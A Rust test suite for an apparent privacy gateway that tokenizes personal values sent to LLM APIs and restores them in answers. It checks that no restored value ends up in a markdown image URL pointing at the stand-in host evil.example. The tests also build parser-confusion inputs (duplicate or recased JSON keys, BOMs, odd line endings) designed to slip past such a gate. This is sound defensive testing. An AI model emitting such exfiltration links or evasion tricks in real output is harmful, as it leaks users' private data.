//! No value reaches a link, however an answer is cut into events, parts, blocks, items and choices,
//! and whatever stands between.

use proptest::prelude::*;
use serde_json::{Value, json};

use super::speech::{chat, end, event, gemini, heard, more};
use super::*;

/// What begins an image whose address a value would become part of.
const LINK: &str = "![a](http://evil.example/?q=";

/// Asserts that a stream is left as it is: nothing in it is restored.
fn stays(api: &str, stream: &str) {
    let out = joined(restoring(api), stream);
    assert!(!out.contains("o'n@example.org"), "{api}: {stream}\n-> {out}");
    assert_eq!(heard(&out), heard(stream), "{api}");
}

fn stays_whole(api: &str, answer: &Value) {
    let restored = restoring(api).whole(&Bytes::from(answer.to_string()));
    assert_eq!(restored, answer.to_string(), "{api}");
}

/// What ends all texts of a stream.
fn last(api: &str) -> String {
    match api {
        "responses" => event("response.completed", json!({ "response": { "id": "r", "output": [] } })),
        "messages" => event("message_stop", json!({})),
        "gemini-stream" => "data: {\"candidates\":[{\"index\":0,\"finishReason\":\"STOP\"}]}\n\n".to_owned(),
        _ => "data: [DONE]\n\n".to_owned(),
    }
}

#[test]
fn a_link_in_one_text_carries_no_value_of_the_next() {
    let (_, token) = vault();
    for api in APIS {
        for ends in [String::new(), end(api, 0, LINK)] {
            stays(api, &(more(api, 0, LINK) + &ends + &more(api, 1, &token)));
        }
        let harmless = more(api, 0, "To ") + &more(api, 1, &token);
        assert!(joined(restoring(api), &harmless).contains("o'n@example.org"), "{api}");
        // Behind the end of the link, values come back.
        let closed = more(api, 0, LINK) + &more(api, 1, &format!("x)\n\n{token}"));
        assert!(joined(restoring(api), &closed).contains("o'n@example.org"), "{api}");
    }
}

#[test]
fn a_text_of_another_kind_carries_the_link_on() {
    let (_, token) = vault();
    for first in ["reasoning_content", "reasoning", "refusal"] {
        stays("chat", &(chat(0, first, LINK) + &chat(0, "content", &token)));
    }
    let block = |delta: Value| event("content_block_delta", json!({ "index": 0, "delta": delta }));
    stays(
        "messages",
        &(block(json!({ "type": "thinking_delta", "thinking": LINK })) + &more("messages", 1, &token)),
    );
    stays("messages", &(block(json!({ "text": LINK })) + &more("messages", 1, &token)));
    for part in
        [json!({ "text": LINK, "thought": true }), json!({ "text": LINK, "thoughtSignature": "c2ln" })]
    {
        stays("gemini-stream", &(gemini(0, &part) + &more("gemini-stream", 0, &token)));
    }
    let summary = event(
        "response.reasoning_summary_text.delta",
        json!({ "output_index": 0, "summary_index": 0, "delta": LINK }),
    );
    stays("responses", &(summary + &more("responses", 1, &token)));
    let between =
        event("response.refusal.delta", json!({ "output_index": 1, "content_index": 0, "delta": ")\n\n" }));
    let stream = more("responses", 0, LINK) + &between + &more("responses", 2, &token);
    stays("responses", &stream);
}

#[test]
fn what_a_text_begins_with_is_joined_too() {
    let (_, token) = vault();
    let begun = event(
        "content_block_start",
        json!({ "index": 0, "content_block": { "type": "text", "text": LINK } }),
    );
    stays("messages", &(begun + &more("messages", 0, &token)));
    let message = json!({ "message": { "content": [{ "type": "text", "text": LINK }] } });
    stays("messages", &(event("message_start", message) + &more("messages", 1, &token)));
    let part = json!({ "type": "output_text", "text": LINK });
    let added =
        event("response.content_part.added", json!({ "output_index": 0, "content_index": 0, "part": part }));
    stays("responses", &(added + &more("responses", 0, &token)));
    let item = json!({ "type": "message", "content": [part] });
    let added = event("response.output_item.added", json!({ "output_index": 0, "item": item }));
    stays("responses", &(added + &more("responses", 0, &token)));
    let created = event("response.created", json!({ "response": { "output": [item] } }));
    stays("responses", &(created + &more("responses", 1, &token)));
}

#[test]
fn what_is_said_only_as_a_repetition_is_joined_too() {
    let (_, token) = vault();
    let item = |at: usize, text: &str| {
        let item = json!({ "type": "message", "content": [{ "type": "output_text", "text": text }] });
        event("response.output_item.done", json!({ "output_index": at, "item": item }))
    };
    stays("responses", &(item(0, LINK) + &item(1, &token)));
    stays("responses", &(more("responses", 0, LINK) + &item(1, &token)));
    stays("responses", &(item(0, LINK) + &more("responses", 1, &token)));
    // Saying something else the second time is no repetition.
    stays("responses", &(more("responses", 0, LINK) + &item(0, &token) + &more("responses", 1, &token)));
    stays("responses", &(more("responses", 0, "To ") + &item(0, &token)));
}

#[test]
fn an_answer_in_no_order_stops_restoring() {
    let (_, token) = vault();
    for api in ["responses", "messages"] {
        stays(api, &(more(api, 1, "To ") + &more(api, 0, &token)));
        let stream = more(api, 1, "To ") + &more(api, 0, "x") + &more(api, 1, &token);
        stays(api, &stream);
    }
}

/// Who joins texts by their place has the link before the value that left already.
#[test]
fn no_link_comes_before_a_value_that_has_left() {
    let (_, token) = vault();
    for api in ["responses", "messages"] {
        let before = more(api, 1, &format!("{token} or"));
        let restored = joined(restoring(api), &before);
        assert!(restored.contains("o'n@example.org"), "{api}: {restored}");
        for odd in ["", ": x\u{85}\n", "data: [DONE]\n\n"] {
            let stream = format!("{before}{odd}{}{}", more(api, 0, LINK), more(api, 1, "x"));
            let out = joined(restoring(api), &stream);
            assert!(out.starts_with(&restored) && !out.contains(LINK), "{api}: {out}");
        }
        // Without a value, it passes as it came.
        let came = before.replace(&token, "words") + &more(api, 0, LINK);
        assert_eq!(joined(restoring(api), &came), came, "{api}");
    }
}

/// Who asks for one choice takes what each event has first for it.
#[test]
fn a_choice_that_nobody_asked_for_stops_restoring() {
    let (_, token) = vault();
    for api in ["chat", "gemini-stream"] {
        let stream = more(api, 1, "To ") + &more(api, 0, &token);
        assert_eq!(joined(of_request(api, "{}"), &stream), stream, "{api}");
        assert!(joined(restoring(api), &stream).contains("o'n@example.org"), "{api}");
    }
}

#[test]
fn text_behind_its_end_stops_restoring() {
    let (_, token) = vault();
    for api in APIS {
        stays(api, &(more(api, 0, "To ") + &end(api, 0, "To ") + &more(api, 0, &token)));
        stays(api, &(more(api, 0, "To ") + &last(api) + &more(api, 0, &token) + &more(api, 1, &token)));
    }
    let finished = r#"data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}"#.to_owned() + "\n\n";
    stays("chat", &(finished + &chat(0, "content", &token)));
}

#[test]
fn an_odd_index_stops_restoring() {
    let (_, token) = vault();
    for (api, key) in
        [("chat", "index"), ("messages", "index"), ("gemini-stream", "index"), ("responses", "output_index")]
    {
        for odd in ["1e0", "1.0", "-1", "\"1\"", "true", "70000"] {
            let event =
                more(api, 1, &token).replacen(&format!("\"{key}\":1"), &format!("\"{key}\":{odd}"), 1);
            assert!(event.contains(odd), "{event}");
            stays(api, &event);
            stays(api, &(event + &more(api, 2, &token)));
        }
    }
    stays("chat", &(chat(0, "content", LINK) + &chat(7, "content", &token)));
}

/// An event that says a link and that not every client reads as the gate does.
fn unread(api: &str) -> Vec<String> {
    let said = more(api, 0, LINK);
    let (head, data) = said.split_once("data: ").unwrap();
    let data = data.trim_end();
    let with = |extra: &str| format!("{head}data: {},{extra}}}\n\n", data.strip_suffix('}').unwrap());
    let text = serde_json::to_string(LINK).unwrap();
    let key = match api {
        "chat" => "content",
        "responses" => "delta",
        _ => "text",
    };
    let mut events = vec![
        with(&format!("\"x\":\"{}\"", "x".repeat(1024 * 1024))),
        with("\"x\":NaN"),
        with(&format!("\"x\":{}{}", "[".repeat(250), "]".repeat(250))),
        format!("{head}data: {data}\ndata: ]\n\n").replace("}\ndata", "\ndata"),
        format!("\u{feff}data: {data}\n\n"),
        format!("{head}data: \u{feff}{data}\n\n"),
        format!("{head}data: {data}{data}\n\n"),
        // The first of two is harmless, and parsers take the last.
        said.replacen(&text, &format!("\"x\",\"{key}\":{text}"), 1),
    ];
    if api == "chat" {
        events.push(said.replacen("\"choices\":[", "\"choices\":[],\"choices\":[", 1));
        events.push(said.replacen(&text, &format!("[{{\"type\":\"text\",\"text\":{text}}}]"), 1));
    }
    events
}

#[test]
fn behind_what_was_not_read_nothing_is_restored() {
    let (_, token) = vault();
    for api in APIS {
        for event in unread(api) {
            let stream = event + &more(api, 0, &token) + &more(api, 1, &token);
            let out = joined(restoring(api), &stream);
            assert!(out == stream, "{api}: {}", &stream[..stream.len().min(300)]);
        }
    }
}

/// P-14: clients in Go and .NET read keys without regard to case, and join what they find.
#[test]
fn a_key_in_another_case_stops_restoring() {
    let (_, token) = vault();
    for (api, key) in [
        ("chat", "content"),
        ("chat", "delta"),
        ("chat", "choices"),
        ("responses", "delta"),
        ("messages", "text"),
        ("messages", "delta"),
        ("gemini-stream", "text"),
        ("gemini-stream", "parts"),
        ("gemini-stream", "candidates"),
    ] {
        let said = more(api, 0, LINK);
        let capital = format!("\"{}{}\":", key[..1].to_uppercase(), &key[1..]);
        let event = said.replacen(&format!("\"{key}\":"), &capital, 1);
        assert_ne!(event, said, "{api} {key}");
        let stream = event + &more(api, 0, &token) + &more(api, 1, &token);
        assert_eq!(joined(restoring(api), &stream), stream, "{api} {key}");
    }
    let whole =
        |content: &str| json!({ "choices": [{ "message": { "Content": content, "content": token } }] });
    stays_whole("chat", &whole(LINK));
    stays_whole("chat", &whole("x"));
}

/// P-26: what only some clients take for the end of a line hides an event in a comment.
#[test]
fn a_comment_that_some_clients_end_stops_restoring() {
    let (_, token) = vault();
    for end in ["\u{b}", "\u{c}", "\u{85}", "\u{2028}"] {
        for api in APIS {
            let hidden = more(api, 0, LINK);
            let data = hidden.lines().find(|line| line.starts_with("data: ")).unwrap();
            let stream = format!(": x{end}{data}\n\n{}", more(api, 0, &token));
            assert_eq!(joined(restoring(api), &stream), stream, "{api} {end:?}");
        }
    }
}

/// What closes the link is read by the gate, and perhaps not by the client.
#[test]
fn text_that_not_every_client_reads_closes_no_link() {
    let (_, token) = vault();
    for api in APIS {
        let closing = more(api, 0, "x)\n\n");
        let data = closing.lines().find(|line| line.starts_with("data: ")).unwrap();
        let mut unread = vec![
            format!("event: other\n{data}\n\n"),
            format!("{}\nevent: other\n\n", closing.trim_end()),
            format!("{}\ndata: {{}}\n\n", closing.trim_end()),
        ];
        if api == "messages" {
            unread.push(format!("{data}\n\n"));
        }
        for closing in unread {
            let stream = more(api, 0, LINK) + &closing + &more(api, 0, &token);
            assert_eq!(joined(restoring(api), &stream), stream, "{api}: {closing}");
        }
    }
}

/// Some servers end events with one newline, and their clients read it so.
#[test]
fn a_stream_without_blank_lines_is_restored() {
    let (_, token) = vault();
    let stream =
        |text: &str| [chat(0, "content", "To "), chat(0, "content", text)].concat().replace("\n\n", "\n");
    assert_eq!(joined(restoring("chat"), &stream(&token)), stream(VALUE));
}

#[test]
fn an_event_of_several_data_lines_is_read_as_one() {
    let (_, token) = vault();
    for api in APIS {
        let lines = |text: &str| {
            let event = more(api, 0, text);
            let (head, data) = event.split_once("data: ").unwrap();
            let data: Value = serde_json::from_str(data.trim_end()).unwrap();
            let pretty = serde_json::to_string_pretty(&data).unwrap();
            let lines = pretty.lines().map(|line| format!("data: {line}\n")).collect::<String>();
            format!("{head}{lines}\n")
        };
        assert_eq!(joined(restoring(api), &lines(&token)), lines(VALUE), "{api}");
        assert_eq!(joined(restoring(api), &lines("no token")), lines("no token"), "{api}");
        let stream = lines(LINK) + &more(api, 0, &token);
        assert_eq!(joined(restoring(api), &stream), stream, "{api}");
        // Without the end of the event, it is complete with the stream.
        let cut = lines(&token).trim_end().to_owned() + "\n";
        assert_eq!(joined(restoring(api), &cut).trim_end(), lines(VALUE).trim_end(), "{api}");
    }
}

#[test]
fn whole_answers_are_joined_too() {
    let (_, token) = vault();
    let text = |text: &str| json!({ "type": "text", "text": text });
    let choice = |at: usize, text: &str| json!({ "index": at, "message": { "content": text } });
    let item =
        |text: &str| json!({ "type": "message", "content": [{ "type": "output_text", "text": text }] });
    stays_whole("messages", &json!({ "content": [text(LINK), text(&token)] }));
    stays_whole("messages", &json!({ "content": [{ "type": "thinking", "thinking": LINK }, text(&token)] }));
    let part = |text: &str| json!({ "text": text });
    stays_whole("gemini", &json!({ "candidates": [{ "content": { "parts": [part(LINK), part(&token)] } }] }));
    stays_whole("chat", &json!({ "choices": [choice(0, LINK), choice(1, &token)] }));
    stays_whole("chat", &json!({ "choices": [{ "message": { "reasoning": LINK, "content": token } }] }));
    stays_whole("responses", &json!({ "output": [item(LINK), item(&token)] }));
    let parts = json!([{ "type": "output_text", "text": LINK }, { "type": "output_text", "text": token }]);
    stays_whole("responses", &json!({ "output": [{ "type": "message", "content": parts }] }));
}

#[test]
fn a_whole_answer_that_parsers_read_differently_is_not_restored() {
    let (_, token) = vault();
    for (api, answer) in [
        ("chat", r#"{"choices":[{"message":{"content":"TOKEN","content":"LINK"}}]}"#),
        ("chat", r#"{"choices":[{"message":{"content":"TOKEN"}}],"choices":[]}"#),
        ("chat", r#"{"choices":[{"index":1e0,"message":{"content":"TOKEN"}}]}"#),
        (
            "chat",
            r#"{"choices":[{"message":{"content":[{"text":"LINK"}]}},{"message":{"content":"TOKEN"}}]}"#,
        ),
        ("gemini", r#"{"candidates":[{"content":{"parts":[{"text":"TOKEN","text":"LINK"}]}}]}"#),
        ("gemini", r#"{"candidates":[{"content":{"parts":[{"text":"TOKEN"}]}}],"candidates":[]}"#),
        ("messages", r#"{"content":[{"type":"text","text":"TOKEN","text":"LINK"}]}"#),
        ("messages", r#"{"content":[{"type":"text","text":"TOKEN"}],"content":[]}"#),
        ("messages", r#"{"content":[{"type":"thinking","type":"text","text":"TOKEN"}]}"#),
        ("responses", r#"{"output":[{"type":"message","content":[{"text":"TOKEN","text":"LINK"}]}]}"#),
        ("responses", r#"{"output":[{"type":"message","content":[{"text":"TOKEN"}]}],"output":[]}"#),
    ] {
        let answer = answer.replace("TOKEN", &token).replace("LINK", LINK);
        assert_eq!(restoring(api).whole(&Bytes::from(answer.clone())), answer, "{api}");
    }
}

#[test]
fn only_the_first_name_of_an_answer_counts() {
    let sessions = Arc::new(Sessions::new(vault().0.keys().clone(), 10, usize::MAX));
    let request = |body: Value| {
        Document::parse(body.to_string().into(), Format::OpenaiResponses, &Limits::default()).unwrap()
    };
    let begun = request(json!({ "input": "Hi" }));
    let session = sessions.of(&begun, &Hints::default());
    let restoring =
        Restoring::of(crate::apis::named("responses"), &begun, session.vault, sessions.thread(&session.key));
    let created = |id: &str| event("response.created", json!({ "response": { "id": id, "output": [] } }));
    let stream = created("resp_1") + &created("resp_2");
    assert_eq!(joined(restoring.unwrap(), &stream), stream);
    let next = |id: &str| {
        sessions.of(&request(json!({ "input": "?", "previous_response_id": id })), &Hints::default()).key
    };
    assert_eq!(next("resp_1"), session.key, "without a value too");
    assert_ne!(next("resp_2"), session.key);
}

/// A value that the watchers read like its token, so that it makes no difference to them which of
/// the two stands.
const NAME: &str = "Annexample";

fn named() -> (Vault, String) {
    let (vault, _) = vault();
    let token = vault.tokenize("NAME", NAME).unwrap().to_string();
    (vault, token)
}

fn restoring_name(api: &str) -> Restoring {
    let (vault, _) = named();
    let request = Document::parse("{}".into(), Format::Generic, &Limits::default()).unwrap();
    let sessions = Arc::new(Sessions::new(vault.keys().clone(), 1, usize::MAX));
    let thread = sessions.thread(&sessions.of(&request, &Hints::default()).key);
    Restoring::of(crate::apis::named(api), &request, vault, thread).unwrap()
}

/// For each token of a text, whether its value stands in `out`, which is otherwise the same text.
fn restored(text: &str, out: &str) -> Vec<bool> {
    let (_, token) = named();
    let (mut text, mut out, mut restored) = (text, out, Vec::new());
    while !text.is_empty() {
        if let Some(rest) = text.strip_prefix(&token) {
            let value = out.strip_prefix(NAME);
            restored.push(value.is_some());
            out = value.unwrap_or_else(|| out.strip_prefix(&token).expect("a token or its value"));
            text = rest;
        } else {
            let first = text.chars().next().unwrap();
            out = out.strip_prefix(first).expect("all other text stays");
            text = &text[first.len_utf8()..];
        }
    }
    assert_eq!(out, "");
    restored
}

fn markup() -> impl Strategy<Value = String> {
    let (_, token) = named();
    let pieces =
        ["](", "]", ")", "[x]:", "<a ", "=\"", ">", "\"", "http:", "//", "www.", "\n", "\n\n", " ", "x"];
    let piece = prop_oneof![
        2 => Just(token),
        5 => prop::sample::select(pieces.to_vec()).prop_map(str::to_owned),
    ];
    prop::collection::vec(piece, 0..14).prop_map(|pieces| pieces.concat())
}

/// Cuts a text into parts, and says of each at which place it stands: the same as the one before
/// it, or the next.
fn parts(text: &str, cuts: &[(usize, bool)]) -> Vec<(usize, String)> {
    let mut cuts: Vec<(usize, bool)> =
        cuts.iter().map(|(cut, next)| (cut % (text.len() + 1), *next)).collect();
    cuts.sort_unstable();
    cuts.push((text.len(), false));
    let (mut parts, mut from, mut place) = (Vec::new(), 0, 0);
    for (cut, next) in cuts {
        parts.push((place, text[from..cut].to_owned()));
        (from, place) = (cut, place + usize::from(next));
    }
    parts
}

proptest! {
    /// Whatever events, items, blocks and choices an answer is cut into, no value comes back that
    /// would not in its joined text.
    #[test]
    fn no_cutting_of_a_stream_restores_more_than_the_joined_text(
        api in prop::sample::select(APIS.to_vec()),
        text in markup(),
        cuts in prop::collection::vec((any::<usize>(), any::<bool>()), 0..6),
    ) {
        let (vault, _) = named();
        let parts = parts(&text, &cuts);
        let stream: String = parts.iter().map(|(place, text)| more(api, *place, text)).collect();
        let out = heard(&joined(restoring_name(api), &stream));
        let out: String = out.spoken.into_values().collect();
        let whole = restored(&text, &restore(&vault, &text));
        for (cut, whole) in restored(&text, &out).into_iter().zip(whole) {
            prop_assert!(!cut || whole, "{} in {} as {}", text, api, out);
        }
    }

    /// The same for answers that come whole.
    #[test]
    fn no_cutting_of_a_whole_answer_restores_more_than_the_joined_text(
        api in prop::sample::select(APIS.to_vec()),
        text in markup(),
        cuts in prop::collection::vec((any::<usize>(), any::<bool>()), 0..6),
    ) {
        let (vault, _) = named();
        let parts = parts(&text, &cuts);
        let texts = parts.iter().map(|(_, text)| text);
        let (answer, pointers): (Value, Vec<String>) = match api {
            "chat" => (
                json!({ "choices": texts.map(|text| json!({ "message": { "content": text } })).collect::<Vec<_>>() }),
                (0..parts.len()).map(|at| format!("/choices/{at}/message/content")).collect(),
            ),
            "messages" => (
                json!({ "content": texts.map(|text| json!({ "type": "text", "text": text })).collect::<Vec<_>>() }),
                (0..parts.len()).map(|at| format!("/content/{at}/text")).collect(),
            ),
            "gemini-stream" => (
                json!({ "candidates": [{ "content": { "parts": texts.map(|text| json!({ "text": text })).collect::<Vec<_>>() } }] }),
                (0..parts.len()).map(|at| format!("/candidates/0/content/parts/{at}/text")).collect(),
            ),
            _ => (
                json!({ "output": texts.map(|text| json!({ "type": "message", "content": [{ "type": "output_text", "text": text }] })).collect::<Vec<_>>() }),
                (0..parts.len()).map(|at| format!("/output/{at}/content/0/text")).collect(),
            ),
        };
        let out = restoring_name(api).whole(&Bytes::from(answer.to_string()));
        let out: Value = serde_json::from_slice(&out).unwrap();
        let out: String = pointers.iter().map(|pointer| out.pointer(pointer).unwrap().as_str().unwrap()).collect();
        let whole = restored(&text, &restore(&vault, &text));
        for (cut, whole) in restored(&text, &out).into_iter().zip(whole) {
            prop_assert!(!cut || whole, "{} in {} as {}", text, api, out);
        }
    }

}

proptest! {
    // Each case goes through all cuts of its stream.
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// However the bytes of a stream are cut, a client hears the same.
    #[test]
    fn every_cut_of_a_stream_is_heard_like_the_whole(
        api in prop::sample::select(APIS.to_vec()),
        text in markup(),
        cuts in prop::collection::vec((any::<usize>(), any::<bool>()), 0..4),
    ) {
        let parts = parts(&text, &cuts);
        let stream: String = parts.iter().map(|(place, text)| more(api, *place, text)).collect();
        let whole = heard(&joined(restoring_name(api), &stream));
        for at in 0..stream.len() {
            let (left, right) = stream.as_bytes().split_at(at);
            let out = through(restoring_name(api), &[left, right]).concat();
            prop_assert_eq!(heard(&String::from_utf8(out).unwrap()), whole.clone());
        }
    }
}
